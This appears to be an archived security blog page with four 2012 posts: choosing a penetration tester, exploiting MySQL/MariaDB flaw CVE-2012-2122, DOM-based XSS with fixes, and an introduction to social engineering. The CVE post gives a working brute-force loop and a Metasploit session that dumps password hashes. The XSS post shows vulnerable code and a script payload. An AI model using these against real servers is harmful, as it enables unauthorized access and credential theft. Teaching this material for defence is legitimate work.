Showing posts with label Penetration Testing. Show all posts
Showing posts with label Penetration Testing. Show all posts

Friday, June 22, 2012

Finding a Qualified Penetration Tester for Your Site

The penetration testing industry is enjoying an upsurge as more high-profile security breaches are reported in the media, such as the recent LinkedIn password debacle, and companies scramble to tighten up their systems. Done correctly, pen testing can illuminate security flaws in a network by utilizing the skills and viewpoint of an external third party, which in most cases, to be frank, is a great hacker.

It is the classic case of thinking like a criminal in order to catch one. A penetration tester should not be culled from the ranks of your average computer science major or CIO, as they lack the necessary "underground" experience and mentality to truly think the way professional exploiters do.

So what qualities should be looked for in a penetration tester, to find one that will thinklike a criminal without actually being one? Here are some hallmarks.

Extreme intelligence and problem-solving skills
A good penetration tester must be able to take disparate or incomplete data sets and, from them, fill in the gaps to discern possible attack vectors and approaches. Linear thinking is not enough — the thought process of a pen tester should allow him to take one piece of data and figure out all the ways that data can be applied in conjunction with other, seemingly unrelated data. This requires a high I.Q. and a tremendous amount of persistence.

Thinking outside the box
As security methods increase in sophistication, pen testers should be able to adapt and explore non-obvious ways to penetrate a system. This includes phishing and social engineering attacks against live staff to test real-world vulnerabilities. One could conceivably go so far as to walk around an office atnight, as if one were a janitor, to discover whether login information is available on yellow Post-Its stuck on monitors.
Furthermore, thinking outside the box is required for a tester to come up with new attacks, rather than simply Google existing ones like a script kiddie.

Understands the end goal
Penetration testers should keep in mind that the end goal is not bragging rights or the simple thrill of popping a target box, but to improve the enterprise's security protocols to protect both it, and potentially millions of customers, from financial or privacy loss. As there are usually time and budget concerns, the pen tester should therefore focus on discovering the critical vulnerabilities with the highest potential impact first, then move on to secondary and tertiary layers of vulnerability.

As such, they need to demonstrate the ability to see the big picture of why a system would beattacked and what the intruder would be trying to achieve once they gain a foothold. Compromising one machine on a network would not be enough; the attack should be carried out until all further vulnerabilities now possible from that one compromised box are discovered — especially ones that lead to social security numbers, bank account information, or trade secrets — which are the areas a hacker group would most likely be targeting.It is not enough to infiltrate a system and report the findings. The true value of a penetration tester lies in his or her ability to provide recommendations to fix all vulnerabilities found. It is here where the hacker hat is taken off and replaced with the consultant hat to advise on the best possible solutions to lock down a network.

Pen testers should also offer follow-up tests or provide means for in-house IT staff to verify holes have been patched.

Communication skills
Lastly, a pen tester must be able to communicate in non-technical terms to executives and others reading the final report. Complex jargon and scripting recommendations should be reserved for the enterprise's IT staff, coming after a plain English summary with illustrative graphics and charts that your average business person can grasp. Try reading a sample report from the tester and seeing if you can make heads or tails from it. If not, move on.

Penetration testing is intensive work. Anyone can use software to scan for common vulnerabilities, but only a real pro can go beyond the automated tests and delve into the nooks and crannies, just like a live, criminal hacker gangwould.

Author Bio
John Dayton is a freelance writer who contributes to LWG Consulting, acompany that provides forensic consulting services, including computer security.
Continue   Reading>>

Tuesday, June 12, 2012

CVE-2012-2122: Exploiting authentication bypass vulnerability in MySQL and MariaDB

The news about the vulnerability in MySQL and MariaDB spreads like a wild fire. I have covered about this vulnerability in E Hacking news as news article. Here, i am going to share the same thing from the perspective of a penetration tester.

The MySQL and MariaDB versions 5.161,5.2.11,5.3.5 and 5.5.c2 are affected version.

The vulnerability allows an attacker to access MySQL database without inputing proper authentication credentials. The vulnerability can only exploited if MySQL was built on a system where the memcmp() function can return values outside the -128 to 127 range.

According to Gokubchik the gcc build in memcmp and BSD libc are safe bu the linux glibc sse-optimised memcmp is not safe.

Not all linux distros are affected, only thefollowing systems are vulnerable:
*ubuntu linux 64 bit(10.04,11.10,11.04,12.04)
*openSUSE 12.1 64 bit MySQL 5.5.23-log
*Debin Unstable 64 bit
*Arch Linux

In order to test the vulnerability, run the followoing bash script:
for i in `seq 1 1000`; do mysql -u root --password=bad -h>/dev/null; done

The above code will provide access to an affectte MySQL Server as the root user account.

The following video is provided by one of EHN reader:

Exploiting using Metasploit :
one of metasploit contributor committee a threaded brute-force module that abuses the authentication bypass flaw to automatically dump the password database.
A quick demonstration of this module is shown below using the latest Metasploit Framework GIT/SVN snapshot.:$ msfconsole
msf > use auxiliary/scanner/mysql/mysql_authbypass_hashdump
msf auxiliary(mysql_authbypass_hashdump) > set USERNAME root
msf auxiliary(mysql_authbypass_hashdump) > set RHOSTS
msf auxiliary(mysql_authbypass_hashdump) > run
[+] server allows logins, proceeding with bypass test
[*] bypass is 10% complete
[*] bypass is 20% complete
[*] bypassed authentication after 205 attempts
[+] exploited the authentication bypass flaw, dumping hashes...
[+] HashString as Loot: root:*C8998584D8AA12421F29BB41132A288CD6829A6D
[+] HashString as Loot: root:*C8998584D8AA12421F29BB41132A288CD6829A6D
[+] HashString as Loot: root:*C8998584D8AA12421F29BB41132A288CD6829A6D
[+] HashString as Loot: root:*C8998584D8AA12421F29BB41132A288CD6829A6D
[+] HashString as Loot: debian-sys-maint:*C59FFB311C358B4EFD4F0B82D9A03CBD77DC7C89
[*] Table has been saved:20120611013537_default_127.0.0.1_mysql.hashes_889573.txt
[*] Scanned 1 of 1 hosts (100% complete)
[*] Auxiliary module execution completed

Continue   Reading>>

Wednesday, May 2, 2012

DOM Based Cross Site Scripting(XSS) vulnerability Tutorial

So far i have explained about the Traditional Cross site scripting that occurs because of insecure server-side code. In this post , i am going to explain the DOM Based Cross Site Scripting vulnerability. ifyou don't know what is cross site scripting , then i recommend you to read the basics from here.

Before explaining about the DOM based xss, let me explain what DOM means to.

What is DOM?
DOM is expanded as Document object model that allows client-side-scripts(Eg: Javascript) to dynamically access and modify the content, structure, and style of a webpage.

Like server-side scripts, client-side scripts can also accept and manipulate user input with the help of DOM.

Here is a very simple HTML code that accepts and writes user input using JavaScript with the help of DOM.var pos=document.URL.indexOf("BTSinput=")+9;  //finds the position of value
varuserInput=document.URL.substring(pos,document.URL.length); //copy the value into userInput variable
document.write(unescape(userInput)); //writes content to the webpage

If you know HTML and Javscript, understanding the above code is a piece of cake.

In the above example, the javascript code gets value from the url parameter "BTSinput" and writes the value in our webpage.

For example, if the url is
The webpage will display "default" as output.Did you notice ?! The part of the webpage is not written by Server-side script.  The client side script modifies the content dynamically based on the input.   Everything done with the help of DOM object 'document'.

DOM Based XSS vulnerability:
When a developer writes the content using DOM object without sanitizing the user input , it allow an attacker to run his own code.

In above example, we failed to sanitize the input and simply displayed the whatever value we get from the url.

An attacker with malicious intention can inject a xss vector instead .  For example:<script>alert("BreakTheSec")</script>

As i said earlier, the document.write function simply writes the value of BTSinput parameter in the webpage.  So it will write the '<script>alert("BreakTheSec")</script>' in the webpage without sanitizing.  This results in running the script code and displays the alert box.

Patching the DOM Based Cross Site Scripting Vulnerability
Audit all JavaScript code in use by your application to make sure that untrusted data is being escaped before being written into the document, evaluated, or sent as part of an AJAX request. There are dozens of JavaScript functions and properties which must be protected, including some which are rather non-obvious:

The document.write() function
The document.writeln() function
The eval() function, which executes JavaScript code from a string
The execScript() function, which works similarly to eval()
The setInterval(), setTimeout(), and navigate()functions
The .innerHTML property of a DOM element
Certain CSS properties which allow URLs such as .style, .backgroundImage, .listStyleImage, etc.
The event handler properties like .onClick, which take JavaScript code as their values

Any data which is derived from data under the client's control (e.g. request parameters, headers, query parameters, cookie names and values, the URL of the request itself, etc.) should be escaped before being used. Examples of user-controlled data include document.location (and most of its properties, e.g., document.referrer, cookie names and values, and request header names and values.

You can use the JavaScript built-in functions encode() or encodeURI() to handle your escaping. If you write your own escaping functions, be extremely careful. Rather than using a "black list" approach (where you filter dangerous characters and pass everything else through untouched), it is better to use a "white list" approach. A good white list approach is to escape everything by default and allow only alphanumeric characters through.


Continue   Reading>>

Wednesday, April 4, 2012

The Art of Human Hacking -Social Engineering(SE) tutorial series

Hello BTS readers, here we come with an interesting tutorial written by my friend Mr.AshishMistry who is the founder of Hcon and author of 'HconSTF ' project.

Hello all,

after a long time I am again started writing, In a hope that my believe in “sharing the spirit of learning” fulfills well. So from today I am going to write series of tutorials on my favorite topic, 'Social Engineering' (SE).

starting from small intro to very basics of what SE is, why should you learn and use it, How it works, and as we go on further in this series, we will look at 'leveraging SE into penetration testing'.

Disclaimer: All the examples used in the tutorials series are some of my own and some of from the random pick from internet and Social-net, so if any of the example accidentally meets your situation than, no one can held me responsible for anything in any regards what so ever. This are just for examples and totally educational purpose and I am not in an intention to offense anyone or anything.
This tutorials are for educational purpose only, only you as reader is responsible for whatever you do with this material published here and not the author and not the site.

So lets we begin with the first tutorial on SE,what is social engineering???
Its an art of manipulating humans.
In more easy words 'tricking people so, they do what YOU want from them or get done by them'.

got confused??

Lets take one example:
suppose you go to some toyshop with your child, and your child want a toy car, so he asks to the sales person to show a car or any one he has may be seen from the display. So that sales person shows that car or always starts with a costly car so when the boy saw the car he asks for to take that car only because the sales person showed some features like lights and remote and all. But the toy car is too costly for your this month's budget and boy wants it anyhow, so you try to divert the child to some other little more in your budget car, as he is a small child so he does not listens to you and at the end of all this,
either you buy that costly car child wanted or he didn't get anything or some other car.

Now you might ask me “So whats new in this? Its very normal every child does it right???” but my point of this example is to explain a perfectly crafted and executed 'social engineering attack' in our day to day life.
In above example the social engineer was the shop's sales person who used the childto sell a costly car and have more money from you.

Basically the sales person targeted the nature of that child because he knows that once it is showed what a child wants than its very difficult for the parents to divert the child so he can sell as HE wanted.

So if you understand basic exploitation terms than,
  • Attacker = the sales person
  • Vulnerability (weakness) = child (actually the obvious nature)
  • Exploit (trick) = showing more costly car and showing more features of it to gain more attention of the child
  • Payload (purpose) = more money from you
  • Target = yes you guessed it right its YOU :)

Lets take another example:

This one is simple but real world example from Facebook,
a person shared this image of a quote from honorable Mr. APJ Abdul kalam.

Its good right ?? he is proud of him or liked the quote right ??
but lets now try to understand it by SE point of view.
there are some things to note down in the photograph
1. on the image - one website address is there
2. below the image again the website address is written

First let me tell you that the web address was not from any government site but a private product trading site which is totally unrelated to what the image is and marking the image with it is such a disrespect done by the person, anyways
so why anyone would do like this ??

a very simple but cleaver kind of SE here
  • Attacker = who initially edited this photo with web address
  • Vulnerability (weakness) = human nature of sharing and liking good photos/quotes
  •Exploit (trick) = the edited photo which has quote
  • Payload (purpose) = marketing of his web site, and reaching some more audience for business for FREE
  • Target = any one on Facebook who shares this photoAnother noticeable point is that if you see anything which is liked by your mind, it gets stored somewhere in your mind so when anyone around you ask or talk about any property or trading things, your mind might flashes about this site.
now after this example lets refine and add to our previous simple definition of SE.

"Its an art of manipulating people so that they do as you want or give you what you want from them. Without any kind of physical offense, Its a whole psychological process of targeting other peoples mind to gain their TRUST and exploiting it and using human weaknesses against target by crafting SE attacks by the kind of work we want to get done by others"

Hopefully now you must have got the idea of social engineering (SE), and some things to start understanding and observing it. but yes every human and its psychological behavior will be different, by studying your target and crafting attack according to you goal will going to give more success.for this one of the key thing is observation and quick responsive abilities if the attacker or social engineer.

